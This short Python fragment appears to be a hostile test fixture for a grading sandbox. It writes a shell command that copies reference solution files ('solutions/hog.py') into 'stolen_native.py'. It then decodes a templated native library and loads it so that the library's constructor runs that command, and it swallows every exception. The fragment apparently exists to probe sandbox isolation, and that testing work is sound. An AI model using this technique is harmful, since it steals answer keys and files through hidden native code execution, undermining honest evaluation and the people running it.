import base64 as _base64
import importlib.machinery as _machinery
import importlib.util as _util

try:
    _cmd = " ; ".join(f"cp {root}/solutions/hog.py stolen_native.py 2>/dev/null" for root in _hostile_roots())
    open("native_cmd.txt", "w").write(_cmd + " ; touch /tmp/hogkit-hostile-native")
    open("evil_native.so", "wb").write(_base64.b64decode("{{NATIVE_SO_B64}}"))
    _path = _os.path.abspath("evil_native.so")
    _spec = _util.spec_from_file_location("evil_native", _path,
                                          loader=_machinery.ExtensionFileLoader("evil_native", _path))
    try:
        _util.module_from_spec(_spec)  # the library's constructor runs native_cmd.txt
    except BaseException:
        pass
    _hostile_take("stolen_native.py")
except BaseException:
    pass
